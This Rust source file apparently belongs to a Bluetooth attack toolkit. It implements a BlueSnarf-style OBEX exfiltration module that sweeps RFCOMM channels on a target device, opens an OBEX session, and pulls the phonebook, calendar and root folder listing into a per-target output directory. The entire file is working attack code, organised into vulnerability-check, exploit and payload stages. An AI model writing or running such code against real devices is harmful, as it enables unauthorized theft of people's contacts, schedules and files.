//! OBEX data exfiltration (BlueSnarf-style).
//!
//! Finds an RFCOMM channel that speaks OBEX, then pulls the phonebook, the
//! calendar and the root folder listing into
//! `<outputDir>/<AA_BB_CC_DD_EE_FF>/`.

use async_trait::async_trait;
use std::path::PathBuf;

use bluefang_codec::obex;
use bluefang_common::{AttackKind, BdAddr, BlueResult, Transport};

use crate::module::{AttackContext, AttackModule};
use crate::obex_session::ObexSession;
use crate::payloads::{split_events, split_vcards};
use crate::probe;

/// Usual OBEX channel, tried before the sweep.
const PREFERRED_CHANNEL: u16 = 9;
const LAST_CHANNEL: u16 = 20;

const CONTACTS_OBJECT: &str = "telecom/pb.vcf";
const CALENDAR_OBJECT: &str = "telecom/cal.vcs";

fn candidate_channels(first: Option<u16>) -> Vec<u16> {
    let mut out: Vec<u16> = first.into_iter().collect();
    for ch in std::iter::once(PREFERRED_CHANNEL).chain(1..=LAST_CHANNEL) {
        if !out.contains(&ch) {
            out.push(ch);
        }
    }
    out
}

#[derive(Debug, Default)]
pub struct Exfiltrate {
    open_channel: Option<u16>,
    obex_channel: Option<u16>,
}

/// What one payload run pulled out.
#[derive(Debug, Default)]
struct Haul {
    files: Vec<(&'static str, Vec<u8>)>,
}

impl Exfiltrate {
    pub fn new() -> Self {
        Self::default()
    }

    fn target_dir(ctx: &AttackContext, target: BdAddr) -> PathBuf {
        ctx.config.output_dir.join(target.to_file_stem())
    }

    async fn save(&self, ctx: &AttackContext, target: BdAddr, haul: &Haul) -> BlueResult<PathBuf> {
        let dir = Self::target_dir(ctx, target);
        tokio::fs::create_dir_all(&dir).await?;
        for (file, data) in &haul.files {
            tokio::fs::write(dir.join(file), data).await?;
        }
        Ok(dir)
    }
}

#[async_trait]
impl AttackModule for Exfiltrate {
    fn kind(&self) -> AttackKind {
        AttackKind::Exfiltrate
    }

    async fn check_vulnerability(&mut self, target: BdAddr, ctx: &AttackContext) -> BlueResult<bool> {
        let found = probe::first_open(ctx, target, Transport::Rfcomm, candidate_channels(None)).await?;
        match found {
            Some((channel, _sock)) => {
                ctx.log.info(format!("RFCOMM channel {} is open", channel));
                self.open_channel = Some(channel);
                Ok(true)
            }
            None => {
                ctx.log.warning("No open RFCOMM channel found");
                Ok(false)
            }
        }
    }

    async fn exploit(&mut self, target: BdAddr, ctx: &AttackContext) -> BlueResult<bool> {
        for channel in candidate_channels(self.open_channel) {
            ctx.cancel.check()?;
            if let Some(session) = ObexSession::connect(ctx, target, channel).await? {
                ctx.log.success(format!("OBEX session established on channel {}", channel));
                self.obex_channel = Some(channel);
                session.disconnect(ctx).await?;
                return Ok(true);
            }
        }
        Ok(false)
    }

    async fn run_payload(&mut self, target: BdAddr, ctx: &AttackContext) -> BlueResult<bool> {
        let Some(channel) = self.obex_channel else {
            return Ok(false);
        };
        let Some(mut session) = ObexSession::connect(ctx, target, channel).await? else {
            ctx.log.error(format!("OBEX channel {} stopped answering", channel));
            return Ok(false);
        };

        let mut haul = Haul::default();
        if ctx.config.extract_contacts {
            if let Some(data) = session.get(ctx, CONTACTS_OBJECT, None).await? {
                let count = split_vcards(&String::from_utf8_lossy(&data)).len();
                ctx.log.success(format!("{} contacts extracted", count));
                haul.files.push(("contacts.vcf", data));
            }
        }
        if ctx.config.extract_calendar {
            if let Some(data) = session.get(ctx, CALENDAR_OBJECT, None).await? {
                let count = split_events(&String::from_utf8_lossy(&data)).len();
                ctx.log.success(format!("{} calendar events extracted", count));
                haul.files.push(("calendar.vcs", data));
            }
        }
        if let Some(data) = session.get(ctx, "", Some(obex::TYPE_FOLDER_LISTING)).await? {
            ctx.log.success(format!("Folder listing extracted ({} bytes)", data.len()));
            haul.files.push(("listing.xml", data));
        }
        session.disconnect(ctx).await?;

        if haul.files.is_empty() {
            ctx.log.warning("Nothing could be extracted");
            return Ok(false);
        }
        let dir = self.save(ctx, target, &haul).await?;
        ctx.log.info(format!("Extracted data saved to {}", dir.display()));
        Ok(true)
    }
}
